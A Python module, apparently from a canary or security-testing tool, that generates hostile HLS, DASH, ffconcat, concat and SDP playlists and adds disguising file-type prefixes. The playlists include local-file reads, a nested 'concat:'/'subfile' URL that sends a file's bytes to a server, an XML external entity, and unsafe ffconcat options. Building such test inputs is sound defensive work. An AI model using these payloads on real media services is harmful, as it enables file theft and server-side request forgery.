"""Playlists and scripts that name what is not theirs, as bytes, by a name that says what each tries."""

from collections.abc import Callable
from pathlib import Path

Playlist = Callable[[Path, str], bytes]
"""Makes a playlist that names this file and this URL."""


def _lines(*lines: str) -> bytes:
    return "\n".join([*lines, ""]).encode()


def _hls(*entries: str) -> bytes:
    """A media playlist of these segments; entries that begin with `#` are tags."""
    parts = [part for entry in entries for part in ([entry] if entry.startswith("#") else ["#EXTINF:1.0,", entry])]
    return _lines("#EXTM3U", "#EXT-X-VERSION:7", "#EXT-X-TARGETDURATION:1", *parts, "#EXT-X-ENDLIST")


def hls_segments(file: Path, url: str) -> bytes:
    return _hls(str(file), f"file:{file}", url)


def hls_key(file: Path, url: str) -> bytes:
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{url}",IV=0x{"0" * 32}'
    return _hls(f'#EXT-X-MAP:URI="{file}"', key, str(file))


def hls_master(file: Path, url: str) -> bytes:
    return _lines(
        "#EXTM3U",
        f'#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",DEFAULT=YES,URI="{url}"',
        '#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"',
        url,
        "#EXT-X-STREAM-INF:BANDWIDTH=2",
        str(file),
    )


def hls_nested_protocols(file: Path, url: str) -> bytes:
    """The way that files were once read out to a server: a URL made of the server's and of a file's lines."""
    return _hls(f"concat:{url}?|subfile,,start,0,end,64,,:{file}", f"crypto+file:{file}", f"concat:{file}|{url}")


def dash(file: Path, url: str) -> bytes:
    def representation(number: int, place: str) -> str:
        return (
            f'<AdaptationSet contentType="video" mimeType="video/mp2t"><Representation id="{number}" bandwidth="9"'
            f' codecs="avc1.42c00d" width="160" height="120"><BaseURL>{place}</BaseURL><SegmentList timescale="1"'
            f' duration="1"><SegmentURL media="{place}"/></SegmentList></Representation></AdaptationSet>'
        )

    return _lines(
        '<?xml version="1.0" encoding="UTF-8"?>',
        f'<!DOCTYPE MPD [<!ENTITY canary SYSTEM "file://{file}">]>',
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-live:2011" type="static"'
        ' mediaPresentationDuration="PT1S" minBufferTime="PT1S"><Period duration="PT1S"><!-- &canary; -->',
        representation(0, f"file://{file}"),
        representation(1, url),
        "</Period></MPD>",
    )


def ffconcat(file: Path, url: str) -> bytes:
    return _lines(
        "ffconcat version 1.0",
        f"file '{file}'",
        "option protocol_whitelist file,http,tcp",
        "option safe 0",
        f"file '{url}'",
        f"file 'concat:{file}|{url}'",
    )


def concat(file: Path, url: str) -> bytes:
    """The script as people write it, without the line that it is known by."""
    return _lines(f"file '{file}'", f"file '{url}'")


def sdp(_file: Path, url: str) -> bytes:
    return _lines(
        "v=0",
        "o=- 0 0 IN IP4 127.0.0.1",
        "s=canary",
        "c=IN IP4 127.0.0.1",
        f"a=control:{url}",
        "t=0 0",
        "m=video 5004 RTP/AVP 96",
        "a=rtpmap:96 H264/90000",
        f"a=control:{url}",
    )


PLAYLISTS: dict[str, Playlist] = {
    "hls-segments": hls_segments,
    "hls-key": hls_key,
    "hls-master": hls_master,
    "hls-nested-protocols": hls_nested_protocols,
    "dash": dash,
    "ffconcat": ffconcat,
    "concat": concat,
    "sdp": sdp,
}

EXTENSIONS = ("", ".m3u8", ".mpd", ".ffconcat", ".txt", ".mp4", ".mov", ".ts")

_TRANSPORT_PACKET = b"\x47\x1f\xff\x10" + b"\xff" * 184

PREFIXES = {
    "byte-order mark": b"\xef\xbb\xbf",
    "blank lines": b"\r\n \n",
    "ID3 tag": b"ID3\x04\x00\x00\x00\x00\x00\x0aTIT2\x00\x00\x00\x00\x00\x00",
    "box of an MP4": b"\x00\x00\x00\x14ftypisom\x00\x00\x02\x00mp41",
    "zeros": bytes(64),
    "transport stream": _TRANSPORT_PACKET * 5,
    "WAV": b"RIFF\xff\xff\xff\x00WAVE",
}
"""What is put before a playlist so that it is taken for something else, or something else for it."""
